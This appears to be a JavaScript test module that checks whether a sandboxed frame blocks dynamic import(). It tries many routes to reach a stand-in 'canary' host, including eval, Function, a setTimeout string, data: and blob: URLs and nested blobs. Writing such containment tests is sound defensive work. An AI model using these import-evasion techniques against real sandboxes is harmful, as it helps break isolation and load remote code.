// import() is syntax and cannot be taken away: the frame's policy lets it fetch nothing.
// ends: answered
import { reached } from "../reached.js";

export default function hostile({ canary, hub }) {
  const url = `http://${canary}/import`;
  const [data, blob] = ["data:", "blob:"]; // not in one piece: a bundler would take them in
  return reached({
    plain: () => import(`${url}/plain.js`),
    https: () => import(`https://${canary}/https.js`),
    json: () => import(`${url}/data.json`, { with: { type: "json" } }),
    css: () => import(`${url}/style.css`, { with: { type: "css" } }),
    byText: () => Function("url", "return import(url)")(`${url}/by-text.js`),
    byEval: () => (0, eval)(`import(${JSON.stringify(`${url}/by-eval.js`)})`),
    byTimer: () => new Promise((resolve) => { globalThis.tell = resolve; setTimeout(`import(${JSON.stringify(`${url}/by-timer.js`)}).then(tell)`); }),
    data: () => import(`${data}text/javascript,export default 1`),
    dataJson: () => import(`${data}application/json,1`, { with: { type: "json" } }),
    hubWithQuery: () => import(`http://${hub}/sandbox/frame.html?secret`),
    hubScript: () => import(`http://${hub}/api/openapi.json?secret`),
    foreignBlob: () => import(`${blob}null/00000000-0000-4000-8000-000000000000`),
    nestedInBlob: () => import(URL.createObjectURL(new Blob([`import "${url}/nested.js"`], { type: "text/javascript" }))),
  });
}
